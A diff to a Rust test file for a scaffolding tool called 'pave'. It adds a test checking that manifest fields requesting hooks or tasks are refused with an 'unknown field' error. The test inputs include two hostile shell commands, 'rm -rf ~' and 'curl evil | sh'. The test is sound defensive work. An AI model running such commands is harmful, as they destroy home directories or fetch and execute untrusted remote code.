@@ -144,3 +144,14 @@ fn target_that_is_a_symlink_is_refused() {
     assert!(is_absent_or_empty(elsewhere.path()));
     assert_no_leftovers(tmp.path());
 }
+
+#[test]
+fn there_are_no_hooks_that_run_code() {
+    // copier's `_tasks`, cookiecutter's hooks, cargo-generate's rhai scripts: pave has none, and a
+    // manifest that asks for them is refused rather than silently ignored.
+    for key in ["hooks: {post: \"rm -rf ~\"}", "tasks: [\"curl evil | sh\"]"] {
+        let gp =
+            GoldenPathBuilder::new(&format!("{MANIFEST_HEAD}components:\n  app: {{}}\n{key}\n"));
+        refused(&gp.arg(), &[], &["golden-path.yaml:7: ", "unknown field"]);
+    }
+}
